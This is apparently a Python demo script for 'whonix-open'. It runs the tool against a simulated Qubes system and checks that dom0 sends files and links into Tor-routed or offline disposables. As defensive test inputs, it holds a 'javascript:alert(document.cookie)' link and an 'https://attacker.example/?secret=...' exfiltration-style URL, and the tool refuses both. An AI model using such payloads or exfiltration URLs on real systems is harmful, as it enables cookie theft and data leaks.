"""make demo: whonix-open end to end, against the simulated Qubes.

Every step runs the real programs: the `whonix-open` CLI in a (simulated)
qube -> the `qrexec-client-vm` stand-in (sim/bin) -> the real dom0 service
executable in qubes-rpc/ with qrexec's environment -> the simulated qubesd and
a disposable side that behaves like vm-file-editor. After each step the demo
shows what dom0 chose and enforced (its audit line) and what is still running.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

from whonix_open.sim.harness import SimQubes

REPO = Path(__file__).resolve().parents[1]
CLI = Path(sys.executable).with_name("whonix-open")
ADMIN = Path(sys.executable).with_name("whonix-open-admin")
BOLD, DIM, RESET = ("\033[1m", "\033[2m", "\033[0m") if sys.stdout.isatty() else ("", "", "")


class Demo:
    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.sim = SimQubes.create(tmp / "sim")
        self.home = tmp / "home"
        (self.home / "Documents").mkdir(parents=True)
        self.config = tmp / "profiles.toml"
        self.log = tmp / "sim" / "logs"
        self.seen_audit: set[str] = set()

    def env(self, caller: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("QREXEC_", "WHONIX_"))}
        env.update(self.sim.env(caller=caller))
        env.update({
            "PATH": self.sim.path_with_stand_in(),
            "HOME": str(self.home),
            "XDG_CONFIG_HOME": str(self.home / ".config"),
            "XDG_DATA_HOME": str(self.home / ".local/share"),
            "WHONIX_OPEN_RUN_DIR": str(self.tmp / "run"),
            "WHONIX_OPEN_CONFIG": str(self.config),
        })
        return env

    def file(self, name: str, text: str) -> Path:
        path = self.home / "Documents" / name
        path.write_text(text)
        return path

    def step(self, title: str, caller: str, *args: str) -> int:
        print(f"\n{BOLD}== {title}{RESET}")
        print(f"{DIM}[{caller}]$ whonix-open {' '.join(args)}{RESET}")
        r = subprocess.run([str(CLI), *args], env=self.env(caller), capture_output=True,
                           text=True, check=False)
        for line in (r.stdout + r.stderr).splitlines():
            print(f"  | {line}")
        print(f"  exit status: {r.returncode}")
        self.show_dom0()
        return r.returncode

    def admin(self, title: str, *args: str) -> tuple[int, str]:
        """The administrator's dom0 command against the same simulated system."""
        print(f"\n{BOLD}== {title}{RESET}")
        args = (*args, "--policy-dir", "policy/")  # this tree's policy, not /etc/qubes
        print(f"{DIM}[dom0]$ whonix-open-admin {' '.join(args)}{RESET}")
        r = subprocess.run([str(ADMIN), *args], cwd=REPO,
                           env=self.env("dom0"), capture_output=True, text=True, check=False)
        for line in (r.stdout + r.stderr).splitlines():
            print(f"  | {line}")
        print(f"  exit status: {r.returncode}")
        return r.returncode, r.stdout

    def show_dom0(self) -> None:
        """The dom0 audit lines this step added, and what is left running."""
        lines = []
        for log in sorted(self.log.glob("qrexec.*.log")) if self.log.exists() else []:
            for line in log.read_text(errors="replace").splitlines():
                if line not in self.seen_audit and ("exit=" in line or "refused" in line):
                    self.seen_audit.add(line)
                    lines.append(line)
        for line in lines:
            print(f"  dom0: {line}")
        left = self.sim.disposables()
        print(f"  disposables still running: {len(left)}{' ' + ', '.join(left) if left else ''}")

    def show_launched(self) -> None:
        """What the disposable's qubes.OpenURL / qubes.StartApp was given last."""
        done = self.sim.snapshot().get("launched", [])
        if done:
            last = done[-1]
            what = last.get("url") or last.get("app")
            print(f"  disposable {last['qube']} ran {last['kind']}: {what}")

    def convert_step(self) -> int:
        """A 3-page PDF to a trusted PDF; the disposable runs the real
        qubes.PdfConvert server (qubespdfconverter, installed by make venv)."""
        import shutil

        missing = [p for p in ("pdftocairo", "gm") if shutil.which(p) is None]
        if missing:
            print(f"\n{BOLD}== 4f. Convert to trusted PDF{RESET}\n  needs {', '.join(missing)}: "
                  "run `make system-deps` (poppler-utils, graphicsmagick)")
            return 1
        from PIL import Image  # installed with the converter

        pdf = self.home / "Documents" / "untrusted.pdf"
        pages = [Image.new("RGB", (595, 842), c) for c in ("white", "lightblue", "pink")]
        pages[0].save(pdf, "PDF", resolution=72, save_all=True, append_images=pages[1:])
        code = self.step("4f. Convert an untrusted PDF to a trusted one in an offline "
                         "disposable (only pixels come back)", "anon-whonix", "--convert",
                         "--resolution", "75", str(pdf))
        trusted = pdf.with_suffix(".trusted.pdf")
        print(f"  {trusted.name}: {trusted.stat().st_size if trusted.exists() else 0} bytes; "
              f"original archived: {(self.home / 'QubesUntrustedPDFs' / pdf.name).exists()}")
        return int(code != 0 or not trusted.exists())

    def show_file(self, path: Path) -> None:
        print(textwrap.indent(path.read_text(), f"  {path.name}: "), end="")


def main() -> int:
    if not CLI.exists():
        print(f"{CLI} is missing: run `make demo` (it installs the venv first)", file=sys.stderr)
        return 2
    tmp = Path(tempfile.mkdtemp(prefix="whonix-open-demo-"))
    failures = 0
    try:
        d = Demo(tmp)
        print(f"{BOLD}whonix-open demo{RESET} - simulated Qubes R4.3 with Whonix 18 in {tmp}")
        print("qubes: anon-whonix (Whonix-Workstation behind sys-whonix), personal "
              "(Debian behind sys-firewall, clearnet), whonix-workstation-18-dvm, ...")

        letter = d.file("letter.txt", "Dear editor,\n")
        print("\nbefore:")
        d.show_file(letter)
        failures += d.step("1. Open a file; the edit made in the disposable comes back",
                           "anon-whonix", str(letter)) != 0
        print("after:")
        d.show_file(letter)

        photo = d.file("photo.jpg", "JPEG bytes\n")
        failures += d.step("2. View-only: dom0 discards whatever the disposable sends back",
                           "anon-whonix", "--view-only", str(photo)) != 0
        print("after (unchanged):")
        d.show_file(photo)

        failures += d.step("3. Offline: a disposable with no netvm at all", "anon-whonix",
                           "--offline", "--view-only", str(photo)) != 0

        failures += d.step("4. From a clearnet qube: a warning, yet the disposable is "
                           "Tor-routed because dom0 enforces it", "personal",
                           "--view-only", str(photo)) != 0

        failures += d.step("4a. A link from the clearnet qube opens in a checked Tor "
                           "disposable (dom0 relays it to qubes.OpenURL unread)", "personal",
                           "https://www.whonix.org/wiki/Qubes") != 0
        d.show_launched()
        failures += d.step("4b. Tor Browser in a checked Tor disposable; it is destroyed "
                           "when the browser exits", "anon-whonix", "--app", "torbrowser") != 0
        d.show_launched()
        calls = len(d.sim.calls())
        code = d.step("4c. A javascript: link is refused before anything is sent", "personal",
                      "--", "javascript:alert(document.cookie)")
        print(f"  Admin API calls caused: {len(d.sim.calls()) - calls}")
        failures += code != 2 or len(d.sim.calls()) != calls

        secret = d.file("secret.txt", "the vault's secret\n")
        code = d.step("4d. From vault (no netvm): a link would give it a network, so dom0 "
                      "refuses (79); its files still open offline", "vault",
                      "https://attacker.example/?secret=the-vault-s-secret")
        failures += code != 79
        failures += d.step("4e. The vault's file, offline", "vault", "--offline",
                           "--view-only", str(secret)) != 0
        failures += d.convert_step()

        d.sim.set_property("whonix-workstation-18-dvm", "netvm", "sys-firewall")
        print(f"\n{DIM}(admin mistake: the DVM template's netvm is now sys-firewall, "
              f"i.e. clearnet){RESET}")
        failures += d.step("5. A misconfigured DVM template: dom0 still sets sys-whonix "
                           "before the disposable starts", "anon-whonix", "--view-only",
                           str(photo)) != 0
        code, out = d.admin("6. The administrator's check finds the DVM template and says how "
                            "to fix it", "check", "--quiet")
        failures += code != 1 or "FAIL  dvm-netvm" not in out

        d.config.write_text('[profiles.tor]\ngateway = "sys-firewall"\n')
        print(f"\n{DIM}(admin pins a gateway that is not a Whonix-Gateway in "
              f"profiles.toml){RESET}")
        code = d.step("7. A profile whose gateway is not a Whonix-Gateway: refused, "
                      "the file is NOT opened", "anon-whonix", str(letter))
        failures += code != 66

        d.config.unlink()
        d.sim.set_fault("netvm_change_to", "sys-firewall")
        print(f"\n{DIM}(while the file is open, someone switches the disposable's netvm "
              f"to sys-firewall){RESET}")
        code = d.step("8. netvm changed while open: dom0 kills the disposable",
                      "anon-whonix", "--view-only", str(photo))
        failures += code != 71

        left = d.sim.disposables()
        verdict = ("all steps behaved as expected" if not failures
                   else f"{failures} step(s) did NOT behave as expected")
        print(f"\n{BOLD}Done:{RESET} {len(left)} disposable(s) left running; {verdict}.")
        return 1 if failures or left else 0
    finally:
        d.sim.kill_leftovers()
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
